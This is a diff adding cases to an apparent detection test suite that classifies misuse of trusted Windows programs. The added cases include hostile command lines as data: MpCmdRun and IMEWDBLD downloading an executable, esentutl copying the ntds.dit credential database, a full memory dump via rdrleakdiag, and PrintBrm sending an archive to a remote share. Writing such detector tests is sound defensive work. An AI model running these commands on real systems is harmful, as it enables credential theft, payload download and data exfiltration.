@@ -26,6 +26,37 @@ describe('a program that everybody uses all day', () => {
       'winword.exe /l C:\\Users\\ann\\a.dll',
       'C:\\Program Files\\Microsoft Office\\winword.exe',
     ],
+    [
+      'imewdbld.exe',
+      'IMEWDBLD.exe https://example.com/a.exe',
+      'C:\\Windows\\System32\\IME\\SHARED\\IMEWDBLD.exe',
+    ],
+    [
+      'mpcmdrun.exe',
+      'MpCmdRun.exe -DownloadFile -url https://example.com/a.exe -path C:\\a.exe',
+      'C:\\Program Files\\Windows Defender\\MpCmdRun.exe',
+    ],
+    [
+      'certreq.exe',
+      'certreq -Post -config https://example.com/ C:\\a.ini',
+      'C:\\Windows\\System32\\certreq.exe',
+    ],
+    [
+      'esentutl.exe',
+      'esentutl.exe /y /vss C:\\Windows\\NTDS\\ntds.dit /d C:\\a.dit',
+      'C:\\Windows\\System32\\esentutl.exe',
+    ],
+    ['extrac32.exe', 'extrac32 C:\\a.cab C:\\notes.txt:a.exe', 'C:\\Windows\\System32\\extrac32.exe'],
+    [
+      'rdrleakdiag.exe',
+      'rdrleakdiag.exe /p 668 /o C:\\Temp /fullmemdmp',
+      'C:\\Windows\\System32\\rdrleakdiag.exe',
+    ],
+    [
+      'printbrm.exe',
+      'PrintBrm.exe -b -d \\\\203.0.113.7\\share -f C:\\a.zip',
+      'C:\\Windows\\System32\\spool\\tools\\PrintBrm.exe',
+    ],
   ])('counts where it is made to run other code: %s %s', (slug, commandLine, image) => {
     expect(isProxyingUse(slug, commandLine, image)).toBe(true)
   })
@@ -52,6 +83,15 @@ describe('a program that everybody uses all day', () => {
       'winword.exe',
       'WINWORD.EXE /n "C:\\Users\\ann\\a.docx"',
       'C:\\Program Files\\Microsoft Office\\winword.exe',
+    ],
+    ['mpcmdrun.exe', 'MpCmdRun.exe -SignatureUpdate', 'C:\\Program Files\\Windows Defender\\MpCmdRun.exe'],
+    ['certreq.exe', 'certreq -new request.inf request.csr', 'C:\\Windows\\System32\\certreq.exe'],
+    ['esentutl.exe', 'esentutl /p C:\\ProgramData\\a.edb', 'C:\\Windows\\System32\\esentutl.exe'],
+    ['makecab.exe', 'makecab.exe C:\\a.log D:\\a.cab', 'C:\\Windows\\System32\\makecab.exe'],
+    [
+      'printbrm.exe',
+      'PrintBrm.exe -b -f C:\\printers.printerExport',
+      'C:\\Windows\\System32\\spool\\tools\\PrintBrm.exe',
     ],
     ['rundll32.exe', 'rundll32.exe C:\\Temp\\a.dll,Run', 'C:\\Windows\\System32\\rundll32.exe'],
     ['conhost.exe', null, 'C:\\Windows\\System32\\conhost.exe'],
